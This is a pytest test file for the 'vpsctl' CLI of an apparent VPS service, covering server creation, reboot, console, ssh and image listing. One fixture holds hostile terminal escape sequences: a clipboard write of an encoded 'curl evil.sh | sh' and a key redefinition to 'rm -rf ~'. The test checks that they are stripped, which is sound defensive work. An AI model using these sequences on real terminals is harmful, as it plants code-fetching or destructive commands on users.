"""vpsctl's guest commands in-process, against the app on the fake driver: ``servers create
--image/--ssh-key``, ``reboot``, ``console``, ``ssh``, ``images list``, and the image, SSH and
consistency columns. One image (``debian-12``) is registered; servers are blank by default."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric import ed25519
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from fastapi.testclient import TestClient

from tests.helpers import ApiClient, wait_for, write_fake_image
from tests.unit.vpsctl_harness import BASE, Run, one_error_line
from vpsd.cli import vpsctl_servers
from vpsd.client import Client
from vpsd.config import Settings
from vpsd.hypervisor.fake import FakeDriver
from vpsd.runtime.app import create_app


@pytest.fixture
def client(settings: Settings, fake_driver: FakeDriver) -> Iterator[TestClient]:
    """The app on the fake driver, with a ``debian-12`` build in its data dir at start-up."""
    write_fake_image(settings.images_dir)
    with TestClient(create_app(settings, driver=fake_driver)) as test_client:
        yield test_client


@pytest.fixture
def execs(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    """What ``servers ssh`` would have exec'd (nothing is run)."""
    calls: list[list[str]] = []
    monkeypatch.setattr(
        vpsctl_servers.os, "execvp", lambda file, args: calls.append([file, *args[1:]])
    )
    return calls


def add_key(api: ApiClient, name: str) -> int:
    public = (
        ed25519.Ed25519PrivateKey.generate()
        .public_key()
        .public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
        .decode()
    )
    response = api.post("/ssh_keys/", json={"name": name, "public_key": public})
    assert response.status_code == 201, response.text
    key_id: int = response.json()["id"]
    return key_id


def debian_server(api: ApiClient, name: str = "deb-1") -> dict[str, Any]:
    """A running server made from the registered image; its object as the API shows it."""
    server = api.create_server(name, disk_gb=2, memory_mb=256, image="debian-12")
    body: dict[str, Any] = api.get(f"/servers/{server['id']}/").json()
    assert body["ssh"] is not None, body
    return body


def test_create_with_image_and_ssh_keys(
    run: Run, alice: ApiClient, sent: list[httpx.Request]
) -> None:
    first, second = add_key(alice, "laptop"), add_key(alice, "desktop")
    result = run(
        "servers", "create", "--name", "deb-1", "--disk-gb", "2", "--memory-mb", "256",
        "--image", "debian-12", "--ssh-key", str(first), "--ssh-key", str(second),
        "--wait", "-o", "json",
    )  # fmt: skip
    assert result.code == 0, result.err
    posts = [r for r in sent if r.method == "POST"]
    assert [json.loads(r.content) for r in posts] == [
        {
            "name": "deb-1", "disk_gb": 2, "memory_mb": 256, "image": "debian-12",
            "ssh_keys": [first, second],
        }
    ]  # fmt: skip
    shown = json.loads(result.out)
    assert shown["status"] == "running" and shown["image"] == "debian-12"
    assert shown["ssh"]["host"] and isinstance(shown["ssh"]["port"], int)
    assert "running after" in result.err


def test_create_without_image_sends_neither_field(
    run: Run, alice: ApiClient, sent: list[httpx.Request]
) -> None:
    result = run("servers", "create", "--name", "plain", "--disk-gb", "1", "-o", "json")
    assert result.code == 0, result.err
    assert [json.loads(r.content) for r in sent if r.method == "POST"] == [
        {"name": "plain", "disk_gb": 1}
    ]
    assert json.loads(result.out)["image"] == "blank"  # the tests' default image


def test_create_refusals_keep_the_error_style(run: Run, alice: ApiClient) -> None:
    unknown = run("servers", "create", "-n", "x", "--disk-gb", "2", "--image", "nope-1")
    assert unknown.code == 1 and "nope-1" in one_error_line(unknown)
    key_id = add_key(alice, "k")
    keyed = run("servers", "create", "-n", "x", "--disk-gb", "1", "--ssh-key", str(key_id))
    assert keyed.code == 1, keyed.err  # SSH keys on a blank server are refused
    one_error_line(keyed)
    assert alice.get("/servers/").json()["count"] == 0


def test_list_and_show_include_image_and_ssh(run: Run, alice: ApiClient) -> None:
    deb = debian_server(alice)
    blank = alice.create_server("blank-1")
    endpoint = f"{deb['ssh']['host']}:{deb['ssh']['port']}"

    listed = run("servers", "list")
    assert listed.code == 0, listed.err
    assert "IMAGE" in listed.out and "SSH" in listed.out
    rows = {line.split()[1]: line for line in listed.out.splitlines()[1:] if line.strip()}
    assert "debian-12" in rows["deb-1"] and endpoint in rows["deb-1"]
    assert "blank" in rows["blank-1"]

    shown = run("servers", "show", str(deb["id"]))
    assert shown.code == 0, shown.err
    assert "debian-12" in shown.out and endpoint in shown.out
    blank_shown = run("servers", "show", str(blank["id"]))
    assert "blank" in blank_shown.out


def test_reboot_waits_until_running_again(run: Run, alice: ApiClient) -> None:
    server = alice.create_server("web-1")
    result = run("servers", "reboot", str(server["id"]), "--wait", "-o", "json")
    assert result.code == 0, result.err
    assert json.loads(result.out)["status"] == "running"
    assert f"server {server['id']}: running after" in result.err

    alice.post(f"/servers/{server['id']}/stop/")
    alice.wait_server(server["id"], "stopped")
    refused = run("servers", "reboot", str(server["id"]))
    assert refused.code == 1
    one_error_line(refused)
    assert run("servers", "reboot", "999999").code == 3


def test_console_prints_the_text(run: Run, alice: ApiClient) -> None:
    server = alice.create_server("web-1")
    expected = alice.wait_console(server["id"])  # the fake console has a line per boot
    result = run("servers", "console", str(server["id"]))
    assert result.code == 0, result.err
    assert result.out == expected and result.err == ""

    tail = run("servers", "console", str(server["id"]), "--bytes", "10")
    assert tail.code == 0 and tail.out == expected[-10:]
    assert run("servers", "console", str(server["id"]), "--bytes", "0").code == 2
    assert run("servers", "console", "999999").code == 3


HOSTILE_CONSOLE = (
    b"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: writes the user's clipboard
    b"\x1b]0;owned\x07"  # OSC 0: the window title
    b"\x1b[2J\x1b[H"  # clears the screen
    b"\x1bP0;1|17/rm -rf ~\x1b\\"  # DCS: redefines a key
    b"\xc2\x9b2J"  # C1 CSI, UTF-8 encoded
    b"[\x1b[0;32m  OK  \x1b[0m] Started ssh.service\r\n"
    b"login: \x1b]52;c;cut off"  # a sequence the tail ends in
)


@pytest.mark.parametrize("terminal", [False, True], ids=["piped", "terminal"])
def test_console_drops_the_guests_control_sequences(
    run: Run,
    alice: ApiClient,
    fake_driver: FakeDriver,
    monkeypatch: pytest.MonkeyPatch,
    terminal: bool,
) -> None:
    """Issue 22, item 8: a guest's escapes reached the user's terminal raw."""
    server = alice.create_server("web-1")
    fake_driver.write_console(server["id"], HOSTILE_CONSOLE)
    alice.wait_console(server["id"], "login")  # once its host's agent has mirrored it
    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal)
    monkeypatch.delenv("NO_COLOR", raising=False)
    result = run("servers", "console", str(server["id"]), "--bytes", str(len(HOSTILE_CONSOLE)))
    assert result.code == 0, result.err
    ok = "[\x1b[0;32m  OK  \x1b[0m]" if terminal else "[  OK  ]"
    assert result.out == f"{ok} Started ssh.service\nlogin: "
    # NO_COLOR: the terminal gets the text alone.
    monkeypatch.setenv("NO_COLOR", "1")
    plain = run("servers", "console", str(server["id"]), "--bytes", str(len(HOSTILE_CONSOLE)))
    assert plain.out == "[  OK  ] Started ssh.service\nlogin: "


def test_ssh_print_shows_the_command(run: Run, alice: ApiClient, execs: list[list[str]]) -> None:
    deb = debian_server(alice)
    host, port, alias = deb["ssh"]["host"], deb["ssh"]["port"], f"vpsd-vpsd.test-server-{deb['id']}"
    printed = run("servers", "ssh", str(deb["id"]), "--print")
    assert printed.code == 0, printed.err
    assert printed.out == f"ssh -p {port} -o HostKeyAlias={alias} root@{host}\n"

    extra = run("servers", "ssh", str(deb["id"]), "--print", "--", "-i", "my key", "uptime")
    assert extra.out == f"ssh -p {port} -o HostKeyAlias={alias} root@{host} -i 'my key' uptime\n"
    assert execs == []


def test_ssh_execs_ssh(run: Run, alice: ApiClient, execs: list[list[str]]) -> None:
    deb = debian_server(alice)
    host, port = deb["ssh"]["host"], deb["ssh"]["port"]
    result = run("servers", "ssh", str(deb["id"]), "--", "-v")
    assert result.code == 0, result.err
    alias = f"HostKeyAlias=vpsd-vpsd.test-server-{deb['id']}"
    assert execs == [["ssh", "-p", str(port), "-o", alias, f"root@{host}", "-v"]]


def test_a_new_server_on_a_freed_port_gets_a_host_key_name_of_its_own(
    run: Run, alice: ApiClient
) -> None:
    """Issue 22, item 13: ssh keyed the host key by host and port, so a new server given a
    deleted one's port met the old key (REMOTE HOST IDENTIFICATION HAS CHANGED)."""
    first = debian_server(alice, "deb-1")
    before = run("servers", "ssh", str(first["id"]), "--print").out
    assert alice.delete(f"/servers/{first['id']}/").status_code == 204
    alice.wait_server(first["id"], None)
    second = debian_server(alice, "deb-2")
    assert second["ssh"] == first["ssh"]  # the port was freed and given again
    after = run("servers", "ssh", str(second["id"]), "--print").out
    assert after != before
    assert f"HostKeyAlias=vpsd-vpsd.test-server-{second['id']} " in after


@pytest.mark.parametrize(
    ("url", "alias"),
    [
        ("http://127.0.0.1:8000", "vpsd-127.0.0.1-8000-server-7"),
        ("https://vpsd.example.com", "vpsd-vpsd.example.com-server-7"),
        ("https://VPSD.example.com:8443/", "vpsd-vpsd.example.com-8443-server-7"),
        ("http://[::1]:8000", "vpsd---1-8000-server-7"),
    ],
)
def test_host_key_alias_names_the_api_and_the_server(url: str, alias: str) -> None:
    assert vpsctl_servers.host_key_alias(url, 7) == alias


def test_ssh_into_a_blank_server_fails_clearly(
    run: Run, alice: ApiClient, execs: list[list[str]]
) -> None:
    blank = alice.create_server("blank-1")
    for args in ((), ("--print",)):
        result = run("servers", "ssh", str(blank["id"]), *args)
        assert result.code == 2 and result.out == ""
        line = one_error_line(result)
        assert f"server {blank['id']} (blank-1) has no SSH endpoint" in line
        assert "blank" in line.split("endpoint", 1)[1]
    assert execs == []
    assert run("servers", "ssh", "999999").code == 3


def test_images_list(run: Run, alice: ApiClient) -> None:
    result = run("images", "list")
    assert result.code == 0, result.err
    assert "SLUG" in result.out and "MIN DISK" in result.out
    row = next(line for line in result.out.splitlines() if "debian-12" in line)
    for cell in ("Debian 12", "debian", "295 MiB", "2 GiB", "192 MiB", "available"):
        assert cell in row, row
    as_json = json.loads(run("images", "list", "-o", "json").out)
    assert as_json == alice.get("/images/").json()
    assert [i["slug"] for i in as_json["results"]] == ["debian-12"]


def test_snapshots_show_their_consistency(run: Run, alice: ApiClient) -> None:
    deb = debian_server(alice)
    snapshot = alice.create_snapshot(deb["id"], "snap")
    assert snapshot["status"] == "completed", snapshot
    consistency = snapshot["consistency"]
    assert consistency in ("filesystem", "crash")

    shown = run("snapshots", "show", str(snapshot["id"]))
    assert shown.code == 0, shown.err
    assert any("Consistency" in line and consistency in line for line in shown.out.splitlines())
    listed = run("snapshots", "list")
    assert "CONSISTENCY" in listed.out
    assert consistency in next(line for line in listed.out.splitlines() if " snap " in line)


def test_sdk_guest_calls(alice: ApiClient, transport: httpx.MockTransport) -> None:
    key_id = add_key(alice, "sdk")
    with Client(BASE, alice.token, transport=transport, poll_interval=0.05) as api:
        assert [i.slug for i in api.images.list()] == ["debian-12"]
        server = api.servers.create("sdk-1", 2, memory_mb=256, image="debian-12", ssh_keys=[key_id])
        assert server.image == "debian-12" and server.ssh is not None
        api.wait_for_server(server.id, "running", timeout=30)
        assert api.servers.reboot(server.id).status in ("rebooting", "running")
        assert api.wait_for_server(server.id, "running", timeout=30).status == "running"
        # The same text as the API gives, once the mirror has caught up with the reboot.
        wait_for(
            lambda: (
                api.servers.console(server.id) == alice.get(f"/servers/{server.id}/console/").text
            ),
            what="the same console through the SDK",
        )
